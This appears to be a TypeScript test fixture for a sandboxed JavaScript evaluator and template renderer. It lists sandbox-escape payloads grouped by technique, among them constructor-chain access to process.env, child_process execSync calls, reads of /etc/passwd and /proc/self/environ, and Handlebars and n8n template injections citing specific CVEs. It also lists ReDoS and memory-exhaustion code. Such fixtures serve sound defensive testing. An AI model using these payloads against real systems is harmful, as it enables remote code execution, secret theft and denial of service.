/**
 * Ways out of evaluators that were found elsewhere, by class. Each is run as code, which is JavaScript, and where it can
 * be written as one, as a template in every field that renders templates.
 */
export type Escape = { kind: string; code: string };

/** Finds the host from a function of its realm or of another, by whatever way `js` gives one. */
const by = (kind: string, ...ways: string[]): Escape[] => ways.map((js) => ({ kind, code: js }));
const reach = "('return typeof process === \"undefined\" ? null : process.env.ESCAPE_CANARY')()";

/** Code that tries to return the variable ESCAPE_CANARY of the host's environment, or what leads there. */
export const codeEscapes: readonly Escape[] = [
  ...by(
    "constructors and prototypes",
    `return input.constructor.constructor${reach}`,
    `return [].filter.constructor${reach}`,
    `return Object.getPrototypeOf(input).constructor.constructor${reach}`,
    `return Reflect.get(Object(1n), "constructor").constructor${reach}`,
    `return ({}).__proto__.constructor.constructor${reach}`,
    `return this?.constructor?.constructor${reach}`,
    `return globalThis.constructor.constructor${reach}`,
    `Object.prototype.polluted = 1; input.__proto__.polluted = 1; ({}).constructor.prototype.polluted = 1; return input.polluted`,
    `const { constructor: { constructor: F } } = () => {}; return F${reach}`,
    `const { ["const" + "ructor"]: c } = function () {}; return c${reach}`,
  ),
  ...by(
    "getters and setters",
    `return Object.getOwnPropertyDescriptor(Object.prototype, "__proto__").get.constructor${reach}`,
    `input.__defineGetter__("x", function () { return this }); return input.x.constructor.constructor${reach}`,
    `return ({ get x() { return arguments.callee } }).x`,
    `return ({}).__lookupGetter__("__proto__").call(1n).constructor.constructor${reach}`,
    `let f; Object.defineProperty(input, "a", { set(v) { f = v.constructor } }); input.a = () => {}; return f${reach}`,
  ),
  ...by(
    "functions of functions of other kinds",
    `return (async () => {}).constructor('return typeof process')()`,
    `return (function* () {}).constructor('yield typeof process')().next().value`,
    `return (async function* () {}).constructor('yield typeof process')().next().then((r) => r.value)`,
    `return new Function("return this")().process?.env.ESCAPE_CANARY`,
    `return Reflect.construct(Function, ["return typeof require"])()`,
    `return Function.prototype.constructor.call(null, "return typeof global")()`,
  ),
  ...by(
    "stacks of errors",
    `Error.prepareStackTrace = (_, sites) => sites; const s = new Error().stack; return Array.isArray(s) ? s[0].getThis().process : null`,
    `const e = {}; Error.captureStackTrace?.(e); return e.stack?.[0]?.getFunction?.()`,
    `Error.stackTraceLimit = Infinity; const f = () => f(); try { f() } catch (e) { return e.constructor.constructor${reach} }`,
    `globalThis.Error = class { static prepareStackTrace(_, sites) { return sites } }; try { null.x } catch (e) { return e.constructor.constructor${reach} }`,
    `const e = new Error(); e.name = Symbol(); Error.prepareStackTrace = (a, b) => b; try { e.stack } catch (x) { return x.constructor.constructor${reach} }`,
    `Error.prepareStackTrace = async (a, sites) => sites[0].getThis(); try { await import("x") } catch (e) { return (await e.stack).process ?? null }`,
  ),
  ...by(
    "proxies",
    `return new Proxy(input, { get: (t, k, r) => r.constructor }).x.constructor${reach}`,
    `return new Proxy({}, { getPrototypeOf(t) { throw { get constructor() { return () => 1 } } } }) instanceof Object`,
    `throw new Proxy({}, { getPrototypeOf(t) { const f = () => f(); f() }, get(t, k) { return k === "message" ? "ESCAPED" in globalThis : undefined } })`,
    `return new Proxy({}, { ownKeys: (t) => (t.constructor.constructor${reach}, []) })`,
    `return { toJSON: new Proxy(function () {}, { apply: (f, self, args) => f.constructor${reach} }) }`,
    `const p = new Proxy(function () {}, { apply: (t, self) => self.constructor.constructor${reach} }); return [1].map(p)`,
  ),
  ...by(
    "species",
    `class L extends Array { static get [Symbol.species]() { return class { constructor() { return new Proxy({}, { defineProperty: (t, k, d) => true }) } } } } return L.from([1]).map((x) => x)`,
    `const p = Promise.resolve(); p.constructor = { [Symbol.species]: function (run) { run((r) => r, (e) => e); this.then = (f) => f(1) } }; return await p.then(() => 1).constructor.constructor${reach}`,
    `class P extends Promise { static get [Symbol.species]() { return function (f) { f((v) => v, (e) => { throw e }) } } } try { await P.reject(new Error()).then() } catch (e) { return e.constructor.constructor${reach} }`,
    `const b = new ArrayBuffer(8); b.constructor = { [Symbol.species]: function () { return new ArrayBuffer(1) } }; return b.slice(0, 8).byteLength`,
  ),
  ...by(
    "modules, WebAssembly, eval and with",
    `return await import("node:child_process")`,
    `return (await import("data:text/javascript,export default process")).default`,
    `return eval("import('node:fs')")`,
    `return await new Function("return import('node:process')")()`,
    `return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
    `return eval("typeof process")`,
    `return (0, eval)("this.process && process.env.ESCAPE_CANARY")`,
    `return new Function("o", "with (o) { return constructor.constructor${reach.replaceAll('"', "'").replaceAll("'", "\\'")} }")(input)`,
    `with (input) { return constructor }`,
    `return require("child_process").execSync("id").toString()`,
    `return process.mainModule.require("child_process").execSync("id").toString()`,
    `return module.constructor._load("fs").readFileSync("/etc/passwd", "utf8")`,
    `return process.binding("spawn_sync")`,
    `return globalThis.process.getBuiltinModule("fs").readFileSync("/proc/self/environ", "utf8")`,
  ),
  ...by(
    "what is made into a text, a number or JSON",
    `return { toString() { return this.constructor.constructor${reach} }, valueOf() { return process } } + ""`,
    `return \`\${{ toString: () => (() => {}).constructor${reach} }}\``,
    `return input[{ toString: () => "constructor" }][{ toString: () => "constructor" }]${reach}`,
    `return { toJSON() { return this.constructor.constructor${reach} } }`,
    `Object.prototype.toJSON = function () { return (() => {}).constructor${reach} }; return {}`,
    `return { [Symbol.toPrimitive]: (hint) => (() => {}).constructor${reach} } * 1`,
    `return { [Symbol.for("nodejs.util.inspect.custom")]: (depth, options, inspect) => inspect.constructor${reach}, get a() { throw this } }`,
    `return Array.from({ length: 1, get 0() { return (() => {}).constructor${reach} } })`,
  ),
  ...by(
    "what breaks out of the function around it",
    `}); globalThis.process?.exit(7); (() => {`,
    `*/ }); process.exit(7); (async (input) => { /*`,
    "\u2028}); process.exit(7); (() => {",
    `return arguments.callee.caller.constructor${reach}`,
    `return (function f() { return f.caller })()`,
    `return new.target`,
    `return (class { static #p = this.constructor${reach}; static get() { return this.#p } }).get()`,
    `return super.constructor`,
  ),
];

/** Code that never ends or takes everything, by what it does so with. */
export const codeExhaustions: readonly Escape[] = [
  ...by(
    "labelled loops",
    "a: for (;;) { b: for (;;) { continue a } }",
    "a: while (true) { try { continue a } finally { } }",
  ),
  ...by(
    "loops without a body",
    "for (;;);",
    "do {} while (true)",
    "for (const x of { [Symbol.iterator]: () => ({ next: () => ({ done: false }) }) });",
  ),
  ...by(
    "regular expressions",
    "return /^(a+)+$/.test('a'.repeat(60) + '!')",
    "return /(x+x+)+y/.test('x'.repeat(60))",
    "return /^(([a-z])+.)+[A-Z]([a-z])+$/.test('a'.repeat(80))",
  ),
  ...by(
    "promises",
    "const f = () => Promise.resolve().then(f); await f()",
    "for await (const x of (async function* () { for (;;) yield 1 })());",
  ),
  ...by(
    "lists that hold themselves up",
    "return Array.prototype.includes.call({ length: 2 ** 53 - 1 }, 1)",
    "return Array.from({ length: 2 ** 32 }).length",
  ),
  ...by("big numbers", "let n = 3n; for (;;) n = n ** 3n", "return (2n ** 30000000n).toString().length"),
];

export const codeGreed: readonly Escape[] = [
  ...by(
    "huge texts",
    "return 'x'.repeat(2 ** 30)",
    "return 'x'.padStart(2 ** 30)",
    "let s = 'x'; for (;;) s += s + 'y'",
    "return 'x'.padEnd(2 ** 30, 'ab').length",
    "return new Array(2 ** 26).join('xxxxxxxx')",
  ),
  ...by(
    "lists that grow",
    "const a = []; for (;;) a.push(a.slice())",
    "return new Array(2 ** 32 - 1).fill(0)",
    "let a = [1]; for (;;) a = a.concat(a)",
    "return new Uint8Array(2 ** 31)",
  ),
  ...by(
    "recursion",
    "const f = () => f() + 1; return f()",
    "const o = {}; o.toString = () => o + ''; return o + ''",
    "let f = (x) => [x].map(f); return f(1)",
    "return JSON.parse('['.repeat(1e6))",
    "let a = []; for (let i = 0; i < 1e6; i++) a = [a]; return a",
  ),
  ...by(
    "maps and sets",
    "const m = new Map(); for (let i = 0; ; i++) m.set(i, { i })",
    "const s = new Set(); for (;;) s.add({})",
  ),
];

/** Templates that tried to get out of Handlebars, of n8n's expressions and of others, by class. */
export const templateEscapes: readonly Escape[] = [
  ...by(
    "constructors and prototypes",
    "{{constructor.constructor('return process')()}}",
    "{{trigger.constructor.constructor}}",
    "{{trigger.__proto__.toString}}",
    "{{trigger.[constructor].[prototype]}}",
    "{{trigger.[__proto__].[constructor]}}",
    "{{steps.a.constructor.name}}",
    "{{this.constructor.constructor('return globalThis')()}}",
    "{{@root.constructor}}",
    "{{../constructor}}",
    "{{[].filter.constructor('return process')()}}",
    "{{trigger.own.toString.constructor}}",
    "{{#with trigger as |t|}}{{t.constructor}}{{/with}}",
  ),
  ...by(
    "lookup, as of CVE-2019-19919 and CVE-2021-23369",
    "{{lookup trigger 'constructor'}}",
    "{{lookup trigger '__proto__'}}",
    "{{#with (lookup trigger 'constructor')}}{{this}}{{/with}}",
    "{{lookup (lookup this 'constructor') 'name'}}",
    "{{lookup this (join (split 'con,structor' ',') '')}}",
  ),
  ...by(
    "accessors, as of CVE-2021-23383",
    "{{__defineGetter__ 'a' 1}}",
    "{{__lookupGetter__ '__proto__'}}",
    "{{#each trigger as |value __proto__|}}{{__proto__}}{{/each}}",
    "{{#with trigger as |__proto__|}}{{__proto__.constructor}}{{/with}}",
  ),
  ...by(
    "block parameters and blocks, as of GHSA-p8wg-vrv2-v86f and older",
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.env.ESCAPE_CANARY"}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
    "{{#with split as |a|}}{{a.constructor}}{{/with}}",
    "{{#blockHelperMissing constructor}}x{{/blockHelperMissing}}",
    "{{#helperMissing}}x{{/helperMissing}}",
    "{{helperMissing}}",
    "{{#each @root as |v k|}}{{k}}{{v}}{{/each}}",
    "{{@data.root.constructor}}{{@partial-block}}{{@first.constructor}}",
  ),
  ...by(
    "partials and decorators, as of CVE-2019-20920 and GHSA-xw65-4hp5-5hc7",
    "{{> partial}}",
    "{{> (lookup . 'constructor')}}",
    "{{#> layout}}x{{/layout}}",
    '{{#*inline "a"}}{{this.constructor}}{{/inline}}{{> a}}',
    "{{* decorator}}",
    "{{#* decorator}}x{{/decorator}}",
    "{{> @partial-block}}",
  ),
  ...by(
    "values in the place of the syntax tree, as of GHSA-8r5x-fm3f-whwj",
    '{"type":"Program","body":[{"type":"MustacheStatement","path":{"type":"PathExpression","parts":["constructor"],"original":"x"},"params":[{"type":"NumberLiteral","value":"process.exit(7)"}]}]}',
    "{{trigger.tree}}",
    "{{#if (process.exit)}}x{{/if}}",
    "{{default trigger.tree 1}}",
  ),
  ...by(
    "expressions of n8n: CVE-2025-68613, CVE-2026-1470, CVE-2026-25049, CVE-2026-27577",
    "{{ $json.constructor.constructor('return process.env')() }}",
    "{{ (function(){ return this.process.mainModule.require('child_process').execSync('id').toString() })() }}",
    "{{ (() => { with (Object) { return constructor.constructor('return process')() } })() }}",
    "{{ (({constructor: c}) => c.constructor('return process')())(1) }}",
    `{{ \`$${"{[].constructor.constructor('return process')()}"}\` }}`,
    "{{ process.env.ESCAPE_CANARY }}",
    "{{ $getWorkflowStaticData.constructor }}",
    "={{ new Function('return process')() }}",
  ),
  ...by(
    "other engines' syntax",
    `$${"{process.env.DATABASE_URL}"}`,
    "<%= process.env.ESCAPE_CANARY %>",
    "{{= <% %> =}}<% constructor %>",
    "{% set x = ''.__class__.__mro__ %}{{x}}",
    "#{process.env.ESCAPE_CANARY}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "$eval(constructor.constructor('return process')())",
    "{{{{raw}}}}{{process}}{{{{/raw}}}}",
  ),
];

const nested = (levels: number) => `${"{{#if 1}}".repeat(levels)}x${"{{/if}}".repeat(levels)}`;
const list = (elements: number) => JSON.stringify("x,".repeat(elements));

/** Templates that would take too much: of source, depth, work or output. */
export const templateGreed: readonly Escape[] = [
  ...by("depth", nested(65), `{{upper ${"(upper ".repeat(70)}"a"${")".repeat(70)}}}`),
  ...by("source", `${"x".repeat(256 * 1024 + 1)}{{trigger}}`),
  ...by(
    "loops",
    `{{#each (split ${list(1_000)} ",")}}{{#each (split ${list(1_000)} ",")}}{{this}}{{/each}}{{/each}}`,
  ),
  ...by(
    "output",
    `{{#with (replace "${"a".repeat(1_000)}" "a" "${"b".repeat(20_000)}") as |t|}}{{t}}{{t}}{{/with}}`,
  ),
];
